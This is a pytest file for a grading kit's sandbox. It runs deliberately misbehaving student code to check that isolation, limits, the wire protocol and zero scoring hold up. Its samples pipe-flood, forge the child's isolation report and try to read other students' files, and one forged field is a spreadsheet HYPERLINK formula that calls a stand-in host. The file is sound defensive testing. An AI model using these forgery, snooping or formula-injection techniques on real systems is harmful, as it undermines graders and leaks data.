"""The sandbox boundary: the wire format, SandboxRunner against misbehaving student code, what
the runner sends (never validation labels), and fail-closed scoring of bad answers.

Student code here is a tiny .py file called through the toy probes of tests/hostile/toy_probes.py
(staged into the child only for these tests).
"""
from __future__ import annotations

import io
import json
import os
import shutil
import subprocess
import sys
import sysconfig
import tempfile
import threading
import time
from pathlib import Path

import numpy as np
import pytest

from conformance.components import COMPONENTS
from conformance.cases import training
from conformance.runner import ProbeFailure
from graders import grade, wire
from graders.messages import Hello, Limits
from graders.observe import MESSAGE_CAP, observed_isolation, reconcile_isolation
from graders.sandbox import SandboxRunner
from graders.staging import base_site_packages, default_hidden
from graders.worker import BudgetedRunner

from checks_fakes import OutcomeCheck
from conftest import REQUIRE_SANDBOX_ENV, skip_or_fail

HERE = Path(__file__).resolve().parent
KIT = HERE.parent
TOY_PROBES = HERE / "hostile" / "toy_probes.py"

TOY = '''
import os
import time

import numpy as np


def double(x):
    return 2 * np.asarray(x)


def chatty(x):
    print("noise " * 200_000)
    os.write(1, b"raw bytes on stdout")
    os.write(2, b"raw bytes on stderr")
    return x


def try_import(name):
    __import__(name)
    return 0


def slow(seconds):
    time.sleep(seconds)
    return 1


def crash():
    os._exit(3)


def zeros(n):
    return np.zeros(n)


def corrupt():
    for fd in range(3, 64):  # whatever the answer pipe is, garbage goes into it first
        try:
            os.write(fd, b"\\xff" * 8 + b"not a message")
        except OSError:
            pass
    return 1


def objects():
    return {"y": np.array([object()], dtype=object)}


def not_a_dict():
    return [1, 2]


def shout(n):
    raise RuntimeError("A" * n)


def invert_zeros():
    import numpy as np
    return np.linalg.inv(np.zeros((2, 2)))  # raised inside numpy's own Python code


def deep():
    """Answers with a JSON header nested 100000 deep (then its real answer)."""
    import json
    import sys
    header = b"[" * 100_000
    os.write(json.loads(sys.argv[-1])["ans_fd"], len(header).to_bytes(8, "big") + header)
    return 1


def read(path):
    with open(path) as fh:
        return fh.read()


def import_from(folder, name):
    import sys
    sys.path.insert(0, folder)
    __import__(name)
    return 0


def answer_early_and_stall():
    """Sends its own answer, then never reads a request again: the worker's next send of more than
    a pipe's worth blocks (the red team reopened the request pipe through /proc/self/fd and filled it)."""
    import json
    import sys
    answer = sys.modules["bpk_sandbox.messages"].Answer(ok=True, outputs={}).to_wire()
    sys.modules["bpk_sandbox.wire"].send(json.loads(sys.argv[-1])["ans_fd"], answer)
    time.sleep(600)


def world():
    import resource
    limits = [resource.getrlimit(getattr(resource, f"RLIMIT_{n}"))[0] for n in ("AS", "CPU", "NOFILE", "FSIZE", "NPROC")]
    return {"env": sorted(os.environ), "cwd": sorted(os.listdir(".")), "limits": limits,
            "kit_visible": os.path.exists(KIT_PATH), "root": sorted(os.listdir("/")),
            "etc": sorted(os.listdir("/etc")) if os.path.isdir("/etc") else []}
'''


@pytest.fixture(scope="module")
def toy(tmp_path_factory):
    path = tmp_path_factory.mktemp("toy") / "toy.py"
    path.write_text(TOY.replace("KIT_PATH", repr(str(KIT / "reference"))))
    runner = SandboxRunner(path, style="canonical", limits=Limits(answer_cap_mb=1, cpu_seconds=60),
                           extra_probes=(TOY_PROBES,), load_timeout=20)
    yield runner
    runner.close()


# --- the wire ---------------------------------------------------------------------------------

def test_wire_round_trip_keeps_arrays_exact():
    payload = {"x": np.arange(6.0).reshape(2, 3), "n": 3, "s": "ok", "l": [np.float32(1.5), None, True],
               "d": {"i": np.arange(3, dtype=np.int64)}}
    back = wire.decode_bytes(wire.encode(payload))
    assert back["x"].dtype == np.float64 and np.array_equal(back["x"], payload["x"])
    assert back["d"]["i"].dtype == np.int64 and back["l"] == [1.5, None, True] and back["n"] == 3


def _message(header: bytes, *arrays: bytes) -> bytes:
    return wire.HEADER.pack(len(header)) + header + b"".join(arrays)


def _npy(array) -> bytes:
    buf = io.BytesIO()
    np.save(buf, array, allow_pickle=True)
    return buf.getvalue()


@pytest.mark.parametrize("blob, error", [
    (b"\xff" * 8 + b"junk", wire.WireError),  # a header length over the cap
    (_message(b"{not json"), wire.WireError),
    (_message(b'{"y": {"__ndarray__": 0, "nbytes": 99}}', _npy(np.array([object()], dtype=object))),
     (wire.WireError, EOFError)),  # a pickle in disguise (object array) is never loaded
    (_message(b'{"y": {"__ndarray__": 5, "nbytes": 8}}'), wire.WireError),  # a bad array reference
    (_message(b'{"y": {"__ndarray__": 0, "nbytes": 1000000000}}'), wire.WireError),  # over the size cap
    (_message(b'{"y": 1}')[:-2], EOFError),  # cut short
    (_message(b"[" * 100_000), wire.WireError),  # nested past Python's recursion limit
])
def test_wire_refuses_malformed_messages(blob, error):
    with pytest.raises(error):
        wire.decode_bytes(blob, max_message=1 << 20)


def test_wire_refuses_object_arrays_even_with_matching_sizes():
    data = _npy(np.array([object()], dtype=object))
    header = b'{"y": {"__ndarray__": 0, "nbytes": %d}}' % len(data)
    with pytest.raises(wire.WireError, match="not a plain .npy"):
        wire.decode_bytes(_message(header, data))
    with pytest.raises(wire.WireError):
        wire.encode({"y": np.array([object()], dtype=object)})


def test_reader_gives_up_at_its_deadline_on_a_half_sent_message():
    r, w = os.pipe()
    try:
        os.write(w, wire.encode({"y": np.ones(4)})[:20])
        start = time.monotonic()
        with pytest.raises(TimeoutError):
            wire.Reader(r).read(deadline=time.monotonic() + 0.3)
        assert time.monotonic() - start < 2
    finally:
        os.close(r)
        os.close(w)


# --- SandboxRunner against student code -------------------------------------------------------

def test_toy_call_round_trip_and_prints_do_not_corrupt_the_protocol(toy):
    assert toy.call("toy.call", {"fn": "double", "args": [[1.0, 2.5]]}, timeout=10)["y"].tolist() == [2.0, 5.0]
    assert toy.call("toy.call", {"fn": "chatty", "args": [[7.0]]}, timeout=10)["y"].tolist() == [7.0]


@pytest.mark.parametrize("module", ["reference", "fixtures", "tests", "graders", "pytest", "conformance.judges"])
def test_kit_answer_key_and_test_tooling_cannot_be_imported_in_the_child(toy, module):
    with pytest.raises(ProbeFailure) as info:
        toy.call("toy.call", {"fn": "try_import", "args": [module]}, timeout=10)
    assert info.value.kind == "error" and "ModuleNotFoundError" in info.value.message


@pytest.mark.parametrize("fn, args, kind, says", [
    ("slow", [30], "timeout", "ran longer than 1 s"),  # a late answer
    ("crash", [], "error", "exited (code 3)"),
    ("corrupt", [], "error", "malformed"),
    ("zeros", [1_000_000], "error", "cap"),  # 8 MB answer, 1 MB cap
    ("deep", [], "error", "nested too deeply"),
])
def test_late_dead_or_malformed_answers_fail_and_a_fresh_child_serves_the_next_call(toy, fn, args, kind, says):
    started = toy.children_started
    with pytest.raises(ProbeFailure) as info:
        toy.call("toy.call", {"fn": fn, "args": args}, timeout=1)
    assert info.value.kind == kind and says in info.value.message
    assert toy.call("toy.call", {"fn": "double", "args": [[1.0]]}, timeout=10)["y"].tolist() == [2.0]
    assert toy.children_started == started + 1


@pytest.mark.parametrize("fn, says", [("objects", "Python objects"), ("not_a_dict", "not a dict")])
def test_answers_that_are_not_plain_data_are_errors(toy, fn, says):
    with pytest.raises(ProbeFailure) as info:
        toy.call("toy.raw", {"fn": fn}, timeout=10)
    assert info.value.kind == "error" and says in info.value.message


def test_child_runs_with_limits_a_scrubbed_environment_and_an_empty_private_folder(toy):
    out = toy.call("toy.raw", {"fn": "world"}, timeout=10)
    assert out["env"] == ["HOME", "LANG", "OMP_NUM_THREADS", "OPENBLAS_NUM_THREADS"]
    assert out["cwd"] == ["toy.py"]
    mb = 1024 * 1024
    assert out["limits"] == [3072 * mb, 60, 64, 16 * mb, 256]
    if toy.hello.isolation["filesystem"].startswith("mount namespace"):
        assert out["kit_visible"] is False
        # a root of its own: the system folders, the Python install's top folder, devices, /proc, /tmp
        python_top = Path(os.path.realpath(sys.base_prefix)).parts[1]
        assert set(out["root"]) <= {"usr", "bin", "sbin", "lib", "lib64", "lib32", "libx32", "etc", "dev", "proc",
                                    "tmp", python_top}, out["root"]
        assert out["etc"] == ["ld.so.cache"]


def test_a_huge_student_message_is_cut_keeping_its_start_and_the_students_line(toy):
    """A 7 MB exception message once made a 441 MB output folder (every file of the record carries it)."""
    with pytest.raises(ProbeFailure) as info:
        toy.call("toy.call", {"fn": "shout", "args": [500_000]}, timeout=10)
    message = info.value.message
    assert len(message) < MESSAGE_CAP + 50 and "characters cut]" in message
    line = TOY.splitlines().index('    raise RuntimeError("A" * n)') + 1
    assert message.startswith("RuntimeError: AAAA") and message.endswith(f"(in shout, toy.py, line {line})")


def test_an_error_raised_inside_numpy_names_the_students_line(toy):
    """numpy sits in the child's library folder, inside its root of its own: its frames are the
    kit's side, so the sentence names the student's call, not numpy's line."""
    with pytest.raises(ProbeFailure) as info:
        toy.call("toy.call", {"fn": "invert_zeros", "args": []}, timeout=10)
    line = TOY.splitlines().index("    return np.linalg.inv(np.zeros((2, 2)))  # raised inside numpy's own Python code") + 1
    assert info.value.message.startswith("LinAlgError: Singular matrix")
    assert info.value.message.endswith(f"(in invert_zeros, toy.py, line {line})"), info.value.message


def test_a_huge_load_failure_message_is_cut(tmp_path):
    path = tmp_path / "loud.py"
    path.write_text("import sys\n\n\nclass Loud:  # a class body runs while the file loads\n    sys.exit('B' * 500_000)\n")
    with SandboxRunner(path, style="canonical", load_timeout=20) as runner:
        assert runner.ensure_started() is None
        message = runner.load_failure.message
    assert len(message) < MESSAGE_CAP + 50 and "characters cut]" in message
    assert message.startswith("SystemExit: BBBB") and message.endswith("(in Loud, loud.py, line 5)")


# A submission that rewrites the isolation its child reports (it may patch the child's wire.send),
# from a class body: that runs while the file loads (its top-level statements do not)
FORGER = """
import sys


class _Forger:
    wire = sys.modules["bpk_sandbox.wire"]

    def forged(fd, payload, _send=wire.send, **kw):
        if "isolation" in payload:
            payload["isolation"] = {"network": "audit hook only", "filesystem": "audit hook only", "user": "12345",
                                    "processes": "shared with the grader", "syscalls": "seccomp (forged)"}
            payload["style"] = '=HYPERLINK("http://example.invalid/?"&A1)'  # a CSV cell and a rubric file name
        return _send(fd, payload, **kw)

    wire.send = forged
"""


@pytest.fixture(scope="module")
def unfenced(tmp_path_factory):
    """The toy submission, forging its isolation report, in a child without the syscall filter:
    it denies the namespaces it has and claims the filter it lacks and another user; the grader
    can see every one of those from outside."""
    path = tmp_path_factory.mktemp("unfenced") / "toy.py"
    path.write_text(TOY.replace("KIT_PATH", repr(str(KIT / "reference"))) + FORGER)
    runner = SandboxRunner(path, style="canonical", limits=Limits(answer_cap_mb=1, syscall_filter=False),
                           extra_probes=(TOY_PROBES,), load_timeout=20)
    yield runner
    runner.close()


def test_a_child_that_stops_taking_inputs_times_out_the_call(toy):
    assert toy.call("toy.call", {"fn": "answer_early_and_stall"}, timeout=10) == {}
    failures = []

    def next_call():  # 1.6 MB of inputs: more than the pipe holds
        try:
            toy.call("toy.call", {"fn": "double", "args": [np.zeros(200_000)]}, timeout=1)
        except ProbeFailure as exc:
            failures.append(exc)

    caller = threading.Thread(target=next_call, daemon=True)
    caller.start()
    caller.join(timeout=30)
    assert not caller.is_alive(), "sending the next request blocked past the call's 1 s timeout"
    assert [f.kind for f in failures] == ["timeout"] and "took no inputs for 1 s" in failures[0].message
    assert toy.call("toy.call", {"fn": "double", "args": [[1.0]]}, timeout=10)["y"].tolist() == [2.0]


def test_a_forged_isolation_report_is_replaced_by_what_the_grader_sees(unfenced):
    isolation = unfenced.ensure_started().isolation
    assert isolation["network"] == "network namespace (seen by the grader)"
    assert isolation["filesystem"] == "mount namespace (seen by the grader)"
    assert isolation["processes"] == "PID namespace (seen by the grader)"
    assert isolation["syscalls"] == "none (seen by the grader)"
    uid = observed_isolation(unfenced.proc.pid)["uid"]
    assert isolation["user"].startswith("nobody (" if uid == 65534 else f"{uid} (")
    assert isolation["user"].endswith("(seen by the grader)")
    assert any(e.startswith("the sandbox reported network 'audit hook only'") for e in unfenced.events)
    assert unfenced.style == "canonical"  # the style asked for, not the forged one
    assert any(e.startswith("the sandbox named an unknown style '=HYPERLINK") for e in unfenced.events)


def test_observed_isolation_agrees_with_an_honest_child(toy):
    ours = observed_isolation(os.getpid())
    assert (ours["network"], ours["filesystem"], ours["processes"], ours["uid"]) == (False, False, False, os.geteuid())
    reported, seen = toy.ensure_started().isolation, observed_isolation(toy.proc.pid)
    for key, claim in (("network", "network namespace"), ("filesystem", "mount namespace"), ("processes", "PID")):
        assert seen[key] == reported.get(key, "").startswith(claim), (key, reported, seen)
    assert "seen by the grader" not in json.dumps(reported)
    if os.geteuid() == 0:  # the keeper, outside the PID namespace, only waits: as nobody too
        with open(f"/proc/{toy.proc.pid}/status") as fh:
            assert next(line for line in fh if line.startswith("Uid:")).split()[1:] == ["65534"] * 4
    assert not [e for e in toy.events if e.startswith("the sandbox reported")]
    if os.geteuid() == 0 and seen["processes"]:
        assert seen["runner"] != toy.proc.pid and seen["uid"] == 65534 and reported["user"] == "nobody"


FENCED = {"network": "network namespace (no interfaces)", "filesystem": "mount namespace (...)",
          "processes": "PID namespace (process 1, fresh /proc)"}
SEEN_FENCED = {"network": True, "filesystem": True, "processes": True}
SEEN_OPEN = {"network": False, "filesystem": False, "processes": False}


@pytest.mark.parametrize("reported, seen, replaced", [
    ({**FENCED, "user": "nobody"}, {**SEEN_FENCED, "uid": 65534, "capabilities": 0}, {}),  # root path
    ({**FENCED, "user": "1000 (no capabilities; keeps groups 27)"},
     {**SEEN_FENCED, "uid": 1000, "capabilities": 0}, {}),  # the unprivileged path
    ({"network": "audit hook only", "filesystem": "audit hook only", "user": "0 (root: ...)"},
     {**SEEN_OPEN, "uid": 0, "capabilities": 0x1ff}, {}),  # an honest fallback
    ({**FENCED, "user": "nobody"}, {**SEEN_OPEN, "uid": 0, "capabilities": 0x1ff},
     {"network": "the grader's network (seen by the grader)",
      "filesystem": "the grader's filesystem (seen by the grader)",
      "processes": "the grader's processes (seen by the grader)",
      "user": "0 (capabilities 0x1ff) (seen by the grader)"}),
    ({**FENCED, "user": "1000 (no capabilities)"}, {**SEEN_FENCED, "uid": 1000, "capabilities": 0x200000},
     {"user": "1000 (capabilities 0x200000) (seen by the grader)"}),
    ({**FENCED, "user": "nobody"}, {"network": None, "filesystem": None, "processes": None, "uid": None,
                                    "capabilities": None}, {}),  # nothing readable: the report stands
    (None, {**SEEN_FENCED, "uid": 65534, "capabilities": 0},
     {"network": "network namespace (seen by the grader)", "filesystem": "mount namespace (seen by the grader)",
      "processes": "PID namespace (seen by the grader)", "user": "nobody (no capabilities) (seen by the grader)"}),
], ids=["root_path", "unprivileged", "fallback", "forged_fences", "forged_capabilities", "unreadable", "no_report"])
def test_reconcile_isolation_replaces_only_what_the_grader_sees_otherwise(reported, seen, replaced):
    report, fixes = reconcile_isolation(reported, seen)
    assert report == {**(reported or {}), **replaced}
    assert len(fixes) == len(replaced) and all(f.startswith("the sandbox reported ") for f in fixes)


def test_default_hidden_covers_the_temporary_folder_and_the_base_pythons_packages(monkeypatch, tmp_path):
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    monkeypatch.setattr(tempfile, "tempdir", None)  # gettempdir() reads TMPDIR again
    hidden = default_hidden()
    assert str(tmp_path.resolve()) in hidden
    base = {"base": sys.base_prefix, "platbase": sys.base_exec_prefix}
    purelib = Path(sysconfig.get_paths(vars=base)["purelib"]).resolve()
    if sys.prefix != sys.base_prefix and purelib.is_dir():
        assert str(purelib) in hidden
    venv = Path(sys.prefix).resolve()
    assert not any(p.is_relative_to(venv) for p in base_site_packages()) or sys.prefix == sys.base_prefix


def test_other_workers_folders_stay_hidden_with_a_temporary_folder_outside_tmp(monkeypatch, tmp_path):
    """With TMPDIR outside /tmp (which the child replaces wholesale) every worker's sandbox folder,
    another student's notebook included, lies in a folder the child could otherwise read."""
    tmpdir = Path(tempfile.mkdtemp(prefix="bpk-tmpdir-", dir="/var/tmp"))
    try:
        other = tmpdir / "bpk-sandbox-other" / "child-1" / "work"
        other.mkdir(parents=True)
        secret = other / "bob.ipynb"
        secret.write_text("another student's notebook")
        for path in (tmpdir, *other.parents[:3], other, secret):  # readable by nobody: only the fence stops it
            path.chmod(0o644 if path.is_file() else 0o755)
        monkeypatch.setenv("TMPDIR", str(tmpdir))
        monkeypatch.setattr(tempfile, "tempdir", None)
        submission = tmp_path / "toy.py"
        submission.write_text(TOY.replace("KIT_PATH", repr(str(KIT / "reference"))))
        with SandboxRunner(submission, style="canonical", extra_probes=(TOY_PROBES,), load_timeout=20) as runner:
            assert runner.root.parent == tmpdir
            assert runner.call("toy.call", {"fn": "double", "args": [[1.0]]}, timeout=10)["y"].tolist() == [2.0]
            with pytest.raises(ProbeFailure) as info:
                runner.call("toy.call", {"fn": "read", "args": [str(secret)]}, timeout=10)
        assert info.value.kind == "error" and ("FileNotFoundError" in info.value.message
                                               or "PermissionError" in info.value.message), info.value.message
    finally:
        shutil.rmtree(tmpdir, ignore_errors=True)


SNOOP = """

class Linear(Linear):
    def forward(self, x):
        try:
            with open(SECRET) as fh:
                fh.read()
        except OSError:
            return super().forward(x)
        raise RuntimeError("read another worker's folder")
"""


def test_a_worker_of_the_grader_hides_its_sibling_workers_folders(monkeypatch, tmp_path):
    """grade.run_worker gives each worker its own TMPDIR inside the grader's: the sibling folders
    (other workers' sandboxes, other students' notebooks) must be hidden too."""
    tmpdir = Path(tempfile.mkdtemp(prefix="bpk-tmpdir-", dir="/var/tmp"))
    try:
        secret = tmpdir / "bpk-grade-other" / "bob.ipynb"
        secret.parent.mkdir()
        secret.write_text("another student's notebook")
        for path in (tmpdir, secret.parent, secret):  # readable by nobody: only the fence stops it
            path.chmod(0o644 if path.is_file() else 0o755)
        submission = tmp_path / "snoop.py"
        snoop = SNOOP.replace("SECRET", repr(str(secret)))
        submission.write_text((HERE / "impls" / "canonical.py").read_text() + snoop)
        monkeypatch.setenv("TMPDIR", str(tmpdir))
        monkeypatch.setattr(tempfile, "tempdir", None)
        options = grade.Options(tmp_path, tmp_path / "out", timeout=10, pytest_args=["-k", "linear"])
        result, error, _ = grade.run_worker(submission, options, tmp_path / "grading.log")
        assert error is None, error
        linear = result["report"]["components"]["linear"]
        assert linear["verdict"] == "pass" and "another worker" not in json.dumps(linear), linear
    finally:
        shutil.rmtree(tmpdir, ignore_errors=True)


def test_base_python_site_packages_cannot_be_imported_from(toy):
    found = [(str(folder), name) for folder in base_site_packages()
             for name in ("scipy", "IPython", "packaging") if (folder / name).is_dir()]
    if not found:
        pytest.skip("the base Python has none of scipy, IPython, packaging in its site-packages")
    with pytest.raises(ProbeFailure) as info:
        toy.call("toy.call", {"fn": "import_from", "args": list(found[0])}, timeout=20)
    assert "ModuleNotFoundError" in info.value.message


PROPAGATION = """
import json, sys
from graders.sandbox import SandboxRunner

def mounts():
    with open('/proc/self/mountinfo') as fh:
        return [line.split() for line in fh]

before = mounts()
with SandboxRunner(sys.argv[1], load_timeout=20) as runner:
    hello = runner.ensure_started()
    during = mounts()
print(json.dumps({"isolation": hello and hello.isolation, "shared_root": any(
    m[4] == '/' and any(f.startswith('shared:') for f in m[6:m.index('-')]) for m in before),
    "new": [' '.join(m) for m in during if m not in before]}))
"""


def test_child_mounts_never_propagate_to_the_grader(tmp_path):
    """Where / is a shared mount (systemd makes it so), a mount the child makes before turning its
    copies private would appear in the grader's own namespace (a /proc of the child's PID namespace
    over the grader's, say). The grader runs here in a namespace whose mounts are shared on purpose."""
    if os.geteuid() != 0:
        skip_or_fail("only root can give the grader a mount namespace with shared mounts here",
                     require=REQUIRE_SANDBOX_ENV)
    submission = tmp_path / "toy.py"
    submission.write_text("import numpy as np\n")
    proc = subprocess.run(["unshare", "--mount", "--propagation", "shared", sys.executable, "-c", PROPAGATION,
                           str(submission)], capture_output=True, text=True, timeout=120, cwd=KIT)
    if proc.returncode and "unshare" in proc.stderr[:200]:
        skip_or_fail(f"unshare --mount failed here ({proc.stderr.strip()[:200]})", require=REQUIRE_SANDBOX_ENV)
    assert proc.returncode == 0, proc.stderr[-2000:]
    seen = json.loads(proc.stdout.splitlines()[-1])
    assert seen["shared_root"], "the test's namespace was meant to have a shared root mount"
    assert seen["isolation"]["filesystem"].startswith("mount namespace")
    assert seen["new"] == []


# --- what the runner sends: training data and test inputs, never the validation labels --------

@pytest.mark.parametrize("task", ["xor", "spiral"])
def test_training_sends_inputs_never_validation_labels(monkeypatch, task):
    sent = []
    real_send = wire.send
    monkeypatch.setattr(wire, "send", lambda fd, payload, **kw: (sent.append(payload), real_send(fd, payload, **kw))[1])
    with SandboxRunner(KIT / "tests" / "impls" / "canonical.py") as runner:
        outcome = OutcomeCheck(runner).train(task)
    assert outcome.verdict == "pass", outcome.message  # the correct implementation trains through the sandbox
    (request,) = [p for p in sent if p["probe"] == "training.fit"]
    inputs = request["inputs"]
    assert set(inputs) == {"sizes", "hidden", "X", "y", "X_val", "epochs", "batch_size", "lr", "seed", "budget_s"}
    X, y, Xv, yv = training.load_data(training.TASKS[task])
    assert np.array_equal(inputs["y"], y) and np.allclose(inputs["X_val"], Xv, atol=1e-6)
    blob = wire.encode(request)
    for dtype in (np.int64, np.int32, np.uint8, np.float32, np.float64):
        assert yv.astype(dtype).tobytes() not in blob


# --- fail closed: bad answers score 0 through the real suite and the rubric -------------------

class _BadRunner:
    style = "canonical"

    def __init__(self, answer):
        self.answer = answer

    def call(self, probe, inputs, timeout=None):
        if isinstance(self.answer, ProbeFailure):
            raise self.answer
        return self.answer(inputs)


@pytest.mark.parametrize("answer", [
    lambda inputs: {},
    lambda inputs: {"y": "not an array", "dx": None, "grads": 3},
    lambda inputs: {k: np.full(np.shape(v), np.nan) for k, v in inputs.items() if isinstance(v, np.ndarray)},
    lambda inputs: {k: v for k, v in inputs.items()},  # echoes the inputs back
    ProbeFailure("timeout", "late"),
    ProbeFailure("error", "the sandbox answered with malformed data"),
], ids=["empty", "wrong_types", "nan", "echo", "timeout", "malformed"])
def test_bad_answers_never_pass_and_score_zero(tmp_path, answer):
    report = tmp_path / "report.json"
    runner = BudgetedRunner(_BadRunner(answer), cap=1.0)
    pytest.main([str(KIT / "conformance"), "-q", "-p", "no:cacheprovider", "--rootdir", str(KIT),
                 "-k", "linear or relu", "--report", str(report)], plugins=[runner])
    result = {"hello": Hello(ok=True, style="canonical").to_wire(), "report": json.loads(report.read_text())}
    record = grade.make_record("bad", result, None, None, 0.0)
    for c in ("linear", "relu"):
        assert record["components"][c]["verdict"] in ("fail", "error", "timeout")
        assert record["components"][c]["checks"] and not any(
            ch["outcome"] == "pass" for ch in record["components"][c]["checks"])
    assert record["score"] == 0 and set(record["components"]) == set(COMPONENTS)
